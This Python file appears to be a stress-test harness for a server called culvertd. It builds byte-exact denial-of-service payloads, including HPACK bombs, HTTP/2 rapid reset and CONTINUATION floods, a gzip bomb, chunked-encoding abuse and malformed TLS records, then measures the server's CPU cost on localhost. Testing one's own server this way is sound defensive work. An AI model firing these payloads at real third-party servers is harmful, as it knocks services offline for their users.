"""Attack programs against culvertd's listeners that need no credential: what they send, byte for byte, and what it costs the server.

An attack is a list of pieces of bytes for one connection. strike() plays it, on new connections whenever the server
ends one, until so many bytes have been sent, and returns the bill: CPU-seconds of the server, bytes, connections."""

import contextlib
import os
import pathlib
import select
import socket
import ssl
import struct
import time
import zlib

KB = 1000
HEAD_BYTES = 144 * KB  # what a connection sends at most: a frame of HEADERS and the CONTINUATIONs that are accepted


# ---- HTTP/2 frames (RFC 9113) and HPACK (RFC 7541) ----------------------------------------------------------------------

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, ALTSVC, PRIORITY_UPDATE = *range(11), 16
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
FRAME_BYTES_MAX = 16384
ENHANCE_YOUR_CALM = 11


def h2_frame(kind, flags=0, stream=0, payload=b"", length=None):
    return (len(payload) if length is None else length).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


OPENING = PREFACE + h2_frame(SETTINGS)


def integer(prefix_bits, first, value):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytes([first | limit]), value - limit
    while value >= 128:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def text(value, huffman=False):
    return integer(7, 128 if huffman else 0, len(value)) + value


def field(name, value, mode="plain", **more):
    """A literal field with its name; mode: indexed (goes into the dynamic table), plain, never."""
    return {"indexed": b"\x40", "plain": b"\x00", "never": b"\x10"}[mode] + text(name) + text(value, **more)


def refer(index):
    return integer(7, 128, index)


FIRST_DYNAMIC = 62


def pseudo(host, method=b"GET", path=b"/"):
    """An ordinary request's pseudo-fields."""
    named = {b"GET": refer(2), b"POST": refer(3)}.get(method) or b"\x02" + text(method)
    return named + refer(7) + (b"\x01" + text(host)) + (refer(4) if path == b"/" else b"\x04" + text(path))


def head_frames(stream, block, end=True, pad_continuations=0):
    """The block in a HEADERS frame and as many CONTINUATIONs as it needs."""
    parts = [block[i : i + FRAME_BYTES_MAX] for i in range(0, len(block), FRAME_BYTES_MAX)] or [b""]
    parts += [b""] * pad_continuations
    out = b""
    for i, part in enumerate(parts):
        flags = END_HEADERS if i == len(parts) - 1 else 0
        flags |= END_STREAM if i == 0 and end else 0
        out += h2_frame(HEADERS if i == 0 else CONTINUATION, flags, stream, part)
    return out


def bomb(host, name=b"a", value=b"b" * 4000, size=HEAD_BYTES - 4200):
    """A large field in the dynamic table, referred to by one byte each."""
    return pseudo(host) + field(name, value, "indexed") + refer(FIRST_DYNAMIC) * size


def streams(first=1):
    while True:
        yield first
        first += 2


def heads(block, count, end=True, first=1):
    ids = streams(first)
    return [OPENING, b"".join(head_frames(next(ids), block, end) for _ in range(count))]


def http2_attacks(host):
    """{name: (pieces, requests in them that are served)}"""
    ids = streams()
    ask = pseudo(host)
    tiny = FRAME_BYTES_MAX * 8
    sevens = pseudo(host) + field(b"a", b"b" * 4000, "indexed") + refer(FIRST_DYNAMIC) * 6
    eights = pseudo(host) + refer(FIRST_DYNAMIC) * 9
    reset = lambda stream, code=8: h2_frame(RST_STREAM, 0, stream, struct.pack(">I", code))  # noqa: E731
    toggle = lambda value: h2_frame(SETTINGS, 0, 0, struct.pack(">HI", 1, value) + struct.pack(">HI", 4, 65535))  # noqa: E731
    attacks = {
        "HPACK bomb": [OPENING, head_frames(1, bomb(host))],
        "HPACK bomb, a value that is refused": [OPENING, head_frames(1, bomb(host, value=b"b" * 3999 + b"\x01"))],
        "HPACK bomb, a name that is refused": [OPENING, head_frames(1, bomb(host, name=b"a" * 4000 + b" ", value=b""))],
        "HPACK bomb, a name in upper case": [OPENING, head_frames(1, bomb(host, name=b"a" * 4000 + b"A", value=b""))],
        "HPACK bomb of cookies": [OPENING, head_frames(1, bomb(host, name=b"cookie"))],
        "HPACK bomb of a pseudo-field": [OPENING, head_frames(1, field(b":path", b"/" * 4000, "indexed") + refer(FIRST_DYNAMIC) * 130000)],
        "HPACK bomb of connection fields": [OPENING, head_frames(1, bomb(host, name=b"connection"))],
        "HPACK bomb of lengths": [OPENING, head_frames(1, bomb(host, name=b"content-length", value=b"1" * 4000))],
        "HPACK bomb in trailers": [OPENING, head_frames(1, pseudo(host, b"POST"), end=False) + head_frames(1, bomb(host)[len(ask) :])],
        "HPACK bomb without pseudo-fields": [OPENING, head_frames(1, bomb(host)[len(ask) :])],
        "HPACK bomb on a stream that was reset": [OPENING, head_frames(1, ask, end=False) + reset(1) + head_frames(1, bomb(host))],
        "HPACK bomb on a stream that was skipped": [OPENING, head_frames(5, ask) + head_frames(3, bomb(host))],
        "HPACK bomb on an even stream": [OPENING, head_frames(2, bomb(host))],
        "HPACK bombs, each a little too large": [OPENING, head_frames(1, sevens), *heads(eights, 8000, first=3)[1:]],
        "HPACK bomb in a PUSH_PROMISE": [OPENING, h2_frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + bomb(host)[:16000])],
        "tiny fields of the static table": [OPENING, head_frames(1, ask + refer(16) * tiny)],
        "tiny literal fields": [OPENING, head_frames(1, ask + field(b"a", b"") * (tiny // 4))],
        "fields that evict each other": [OPENING, head_frames(1, ask + b"".join(field(b"a%d" % (i % 10), b"x" * 60, "indexed") for i in range(tiny // 70)))],
        "empty names": [OPENING, head_frames(1, ask + field(b"", b"") * (tiny // 3))],
        "names that are refused": [OPENING, head_frames(1, ask + field(b"a b", b"") * (tiny // 6))],
        "one huge literal": [OPENING, head_frames(1, ask + field(b"a", b"x" * 60000) + field(b"b", b"x" * 60000))],
        "huge Huffman literals": [OPENING, head_frames(1, ask + field(b"a", b"\x1f" * 60000, huffman=True) * 2)],
        "literals that do not end": [OPENING, head_frames(1, ask + b"\x00" + integer(7, 0, 1 << 30) + b"x" * tiny)],
        "integers that do not end": [OPENING, head_frames(1, ask + b"\xff" + b"\x80" * 100)],
        "table size updates": heads(b"\x20\x3f\xe1\x1f" + ask, 4000),
        "references to nothing": [OPENING, head_frames(1, ask + refer(100))],
        "empty CONTINUATIONs": [OPENING, h2_frame(HEADERS, 0, 1, ask) + h2_frame(CONTINUATION, 0, 1) * 16000],
        "CONTINUATIONs of one byte": [OPENING, h2_frame(HEADERS, 0, 1, ask) + h2_frame(CONTINUATION, 0, 1, b"\x90") * 14400],
        "CONTINUATION of nothing": [OPENING, h2_frame(CONTINUATION, 0, 1, b"\x90") * 14400],
        "padding": [OPENING, (h2_frame(HEADERS, END_HEADERS | END_STREAM | PADDED, 1, b"\xff" + ask + bytes(255)))],
        "SETTINGS": [OPENING, h2_frame(SETTINGS) * 16000],
        "large SETTINGS": [OPENING, h2_frame(SETTINGS, 0, 0, struct.pack(">HI", 99, 1) * 2700) * 9],
        "SETTINGS that change the table": [OPENING, (toggle(0) + toggle(4096)) * 3400],
        "SETTINGS that change windows": [OPENING, b"".join(head_frames(next(ids), pseudo(host, b"POST"), end=False) for _ in range(100)) + b"".join(h2_frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + i)) for i in range(9000))],
        "acknowledgements of nothing": [OPENING, h2_frame(SETTINGS, ACK) * 16000],
        "PING": [OPENING, h2_frame(PING, 0, 0, b"12345678") * 8000],
        "PING acknowledgements": [OPENING, h2_frame(PING, ACK, 0, b"12345678") * 8000],
        "PRIORITY": [OPENING, b"".join(h2_frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 15)) for i in range(10000))],
        "PRIORITY chains": [OPENING, b"".join(h2_frame(PRIORITY, 0, 2 * i + 3, struct.pack(">IB", 2 * i + 1, 15)) for i in range(10000))],
        "PRIORITY_UPDATE": [OPENING, b"".join(h2_frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 2 * i + 1) + b"u=1") for i in range(9000))],
        "WINDOW_UPDATE": [OPENING, h2_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 11000],
        "WINDOW_UPDATE of nothing": [OPENING, h2_frame(WINDOW_UPDATE, 0, 0, bytes(4)) * 11000],
        "WINDOW_UPDATE beyond the bound": [OPENING, h2_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 11000],
        "GOAWAY": [OPENING, h2_frame(GOAWAY, 0, 0, bytes(8)) * 8000],
        "unknown frames": [OPENING, h2_frame(0xEE) * 16000],
        "ALTSVC": [OPENING, h2_frame(ALTSVC, 0, 0, b"\0\0x") * 12000],
        "empty DATA": [OPENING, head_frames(1, pseudo(host, b"POST", b"/webhooks/argo/unlisted"), end=False) + h2_frame(DATA, 0, 1) * 16000],
        "DATA for nobody": [OPENING, head_frames(1, pseudo(host, b"POST"), end=False) + h2_frame(DATA, 0, 1, b"x") * 14000],
        "DATA on an idle stream": [OPENING, h2_frame(DATA, 0, 99, b"x") * 14000],
        "RST_STREAM on an idle stream": [OPENING, reset(99) * 11000],
        "rapid reset": [OPENING, b"".join(head_frames(s, ask) + reset(s) for s, _ in zip(streams(), range(3500)))],
        "rapid reset by the server": [OPENING, b"".join(head_frames(s, ask, end=False) + h2_frame(WINDOW_UPDATE, 0, s, bytes(4)) for s, _ in zip(streams(), range(3500)))],
        "requests": heads(ask, 3500),
        "large requests": [OPENING, head_frames(1, sevens), *heads(pseudo(host) + refer(FIRST_DYNAMIC) * 6, 3500, first=3)[1:]],
        "a frame that is too large": [OPENING, h2_frame(DATA, 0, 1, bytes(FRAME_BYTES_MAX + 1)) * 8],
        "HTTP/1 on HTTP/2": [b"GET / HTTP/1.1\r\n" * 9000],
        "zeros": [OPENING, bytes(HEAD_BYTES)],
    }
    return attacks


# ---- HTTP/1 -------------------------------------------------------------------------------------------------------------


def http1_attacks(host, path=b"/", post=b"/"):
    ask = b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\n"
    chunked = b"POST " + post + b" HTTP/1.1\r\nHost: " + host + b"\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n"
    gzipped = zlib.compressobj(9, wbits=31)
    packed = gzipped.compress(bytes(64 << 20)) + gzipped.flush()
    deep = b'{"query":"' + b"{a" * 20000 + b'"}'
    with_body = lambda body, *more: b"POST " + post + b" HTTP/1.1\r\nHost: " + host + b"\r\nContent-Type: application/json\r\n" + b"".join(more) + b"Content-Length: %d\r\n\r\n" % len(body) + body  # noqa: E731
    return {
        "a huge field": [ask + b"X: " + b"x" * HEAD_BYTES],
        "a huge target": [b"GET /" + b"a" * HEAD_BYTES],
        "a huge method": [b"A" * HEAD_BYTES],
        "a target of escapes": [b"GET /" + b"%41" * 10000 + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"],
        "a target of segments": [b"GET /" + b"a/../" * 6000 + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n"],
        "many fields": [ask + b"a:\r\n" * 36000],
        "many fields, one a record": [ask, *[b"a:b\r\n"] * 2000],
        "a head in drops": [ask + b"X: ", *[b"x"] * 2000],
        "a large head, then lines in drops": [ask + b"X: " + b"x" * 30000 + b"\r\n", *[b"a:b\r\n"] * 120],
        "folded lines": [ask + b"X: x\r\n" + b" x\r\n" * 36000],
        "empty lines": [b"\r\n" * 72000],
        "bare line feeds": [b"\n" * HEAD_BYTES],
        "zeros": [bytes(HEAD_BYTES)],
        "spaces": [b"GET" + b" " * HEAD_BYTES],
        "lists of options": [ask + b"Connection: " + b"a," * 15000 + b"\r\n\r\n"],
        "forwarded by many": [ask + b"X-Forwarded-For: " + b"1," * 15000 + b"\r\n\r\n"],
        "long upgrade": [ask + b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + b"A" * HEAD_BYTES],
        "many extensions": [chunked + (b"1" + b";a=b" * 60 + b"\r\nx\r\n") * 580],
        "one long extension": [chunked + b"1;" + b"a" * HEAD_BYTES],
        "chunks of one byte": [chunked + b"1\r\nx\r\n" * 24000],
        "chunks of one byte, one a record": [chunked, *[b"1\r\nx\r\n"] * 2000],
        "sizes of many digits": [chunked + b"0" * HEAD_BYTES],
        "long trailers": [chunked + b"0\r\n" + b"a: b\r\n" * 24000],
        "a gzip bomb": [with_body(packed, b"Content-Encoding: gzip\r\n")],
        "a deep query": [with_body(deep)],
        "pipelined requests": [(ask + b"\r\n") * 2000],
        "pipelined junk": [ask + b"\r\n" + b"\x00\xff" * 70000],
        "pipelined posts": [with_body(b"{}") * 1000],
        "unknown methods": [(b"BREW" + ask[3:] + b"\r\n") * 2000],
        "HTTP/2's preface": [OPENING + h2_frame(SETTINGS) * 15000],
    }


def websocket_attacks(host):
    ask = b"GET /tunnel/v1 HTTP/1.1\r\nHost: " + host + b"\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: culvert.tunnel.1\r\n"
    key = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    token = b"Authorization: Bearer " + b"0" * 24 + b"." + b"0" * 64 + b"\r\n"
    names = b"culvert-instance-id: x\r\nculvert-boot-id: 00000000-0000-4000-8000-000000000000\r\nculvert-agent-version: 0.1.0\r\nculvert-runtime: x\r\n"
    return {
        "upgrades without a token": [ask + key + names + b"\r\n"],
        "upgrades with a token that is unknown": [ask + key + token + names + b"\r\n"],
        "frames behind an upgrade": [ask + key + token + names + b"\r\n" + b"\x89\x80\0\0\0\0" * 20000],
        "a long key": [ask + b"Sec-WebSocket-Key: " + b"A" * HEAD_BYTES],
        "many protocols": [ask + key + b"Sec-WebSocket-Protocol: " + b"a, " * 48000],
    }


# ---- TLS ----------------------------------------------------------------------------------------------------------------


def record(kind, body, version=b"\x03\x03"):
    return bytes([kind]) + version + struct.pack(">H", len(body)) + body


def client_hello(host="localhost", **changes):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    for name, value in changes.items():
        setattr(context, name, value)
    out = ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=host).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def tls_attacks():
    """Before TLS is established: bytes as they are."""
    hello = client_hello()
    body = hello[5:]
    large = bytes([1]) + (1 << 20).to_bytes(3, "big") + body[4:]
    return {
        "hello, then nothing": [hello],
        "hello, then junk": [hello + os.urandom(HEAD_BYTES)],
        "hello, then alerts": [hello + record(21, b"\1\0") * 20000],
        "hello, then change of cipher": [hello + record(20, b"\1") * 24000],
        "hello in records of one byte": [b"".join(record(22, body[i : i + 1]) for i in range(len(body)))],
        "empty records": [record(22, b"") * 28000],
        "a hello that does not end": [record(22, large[:16000]) + record(22, bytes(16000)) * 8],
        "hello of another version": [hello[:9] + b"\x02\x00" + hello[11:]],
        "two hellos": [hello * 2],
        "junk": [b"\x16\x03\x01" + os.urandom(HEAD_BYTES)],
        "zeros": [bytes(HEAD_BYTES)],
        "plain HTTP": [b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 4000],
        "SSLv2": [b"\x80\x2e\x01\x00\x02" + bytes(HEAD_BYTES)],
    }


# ---- playing them --------------------------------------------------------------------------------------------------------


def cpu_seconds(pid):
    """Of all threads of a process (kernel: Documentation/scheduler/sched-stats.rst)."""
    total = 0
    for task in pathlib.Path(f"/proc/{pid}/task").iterdir():
        total += int((task / "schedstat").read_text().split()[0])
    return total / 1e9


class Bill:
    def __init__(self):
        self.cpu, self.bytes, self.connections, self.records, self.answers = 0.0, 0, 0, 0, 0

    @property
    def kb(self):
        return self.bytes / KB

    def __repr__(self):
        return f"{self.cpu * 1000:.1f} ms of CPU for {self.kb:.0f} KB on {self.connections} connections, {self.records} records, {self.answers} answers: {self.cpu * 1000 / max(self.kb, 0.001):.3f} ms/KB"


class Target:
    """A listener: how to connect, in TLS or not, and which process serves it."""

    def __init__(self, platform, port, process="culvertd", tls=True, alpn=None, name="localhost", certificate=None):
        self.platform, self.port, self.process, self.tls, self.alpn, self.name = platform, port, process, tls, alpn, name
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        if alpn:
            self.context.set_alpn_protocols([alpn])
        if certificate:
            self.context.load_cert_chain(*certificate)

    def connect(self):
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=20)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls:
            sock = self.context.wrap_socket(sock, server_hostname=self.name)
        sock.setblocking(False)
        return sock

    def cpu(self):
        return cpu_seconds(self.platform.pid(self.process))


def _wait(sock, read, write, seconds):
    select.select([sock] if read else [], [sock] if write else [], [], seconds)


def _read(sock, got):
    """False: the other side has ended."""
    while True:
        try:
            data = sock.recv(1 << 16)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return True
        if not data:
            return False
        got.append(data)


def play(sock, pieces, got, quiet=0.1, done=lambda: False):
    """Sends them and reads what comes, until the other side ends or has sent no data for so many seconds, or it is done.
    Returns the bytes that were taken, and in how many writes."""
    sent = writes = 0
    with contextlib.suppress(OSError):  # it was ended before all had been sent
        for piece in pieces:
            view = memoryview(piece)
            while view:
                if not _read(sock, got):
                    return sent, writes
                try:
                    count = sock.send(view[:FRAME_BYTES_MAX])
                    sent, writes, view = sent + count, writes + 1, view[count:]
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    _wait(sock, True, True, 0.05)
    with contextlib.suppress(OSError):
        _read_on(sock, got, quiet, done)
    return sent, writes


def _read_on(sock, got, quiet, done):
    """A socket that is readable may have brought no data: a session ticket, a part of a record."""
    until = time.monotonic() + quiet
    while not done() and (left := until - time.monotonic()) > 0:
        _wait(sock, True, False, left)
        before = len(got)
        if not _read(sock, got):
            return
        if len(got) > before:
            until = time.monotonic() + quiet


def settle(target):
    """The process's CPU time, once it stands (nearly) still: then it has done all there is to do."""
    deadline = time.monotonic() + 20
    last = target.cpu()
    while True:
        time.sleep(0.03)
        now = target.cpu()
        if now - last < 0.002 or time.monotonic() > deadline:
            return now
        last = now


def frames_of(data):
    """[(type, payload)] of what an HTTP/2 server sent."""
    while len(data) >= 9:
        end = 9 + int.from_bytes(data[:3], "big")
        yield data[3], data[9:end]
        data = data[end:]


def count_answers(data, http2):
    return sum(kind == HEADERS for kind, _ in frames_of(data)) if http2 else data.count(b"HTTP/1.1 ")


def goaway_code(data):
    """Of the last GOAWAY; None: there was none."""
    codes = [int.from_bytes(payload[4:8], "big") for kind, payload in frames_of(data) if kind == GOAWAY]
    return codes[-1] if codes else None


def strike(target, pieces, kb=150, connections=4, quiet=0.1):
    """Plays the attack again and again until so much was sent."""
    bill = Bill()
    before = settle(target)
    while bill.kb < kb and bill.connections < connections:
        sock = target.connect()
        got = []
        bill.connections += 1
        sent, writes = play(sock, pieces, got, quiet)
        bill.bytes, bill.records = bill.bytes + sent, bill.records + writes
        bill.answers += count_answers(b"".join(got), target.alpn == "h2")
        sock.close()
    bill.cpu = settle(target) - before
    return bill
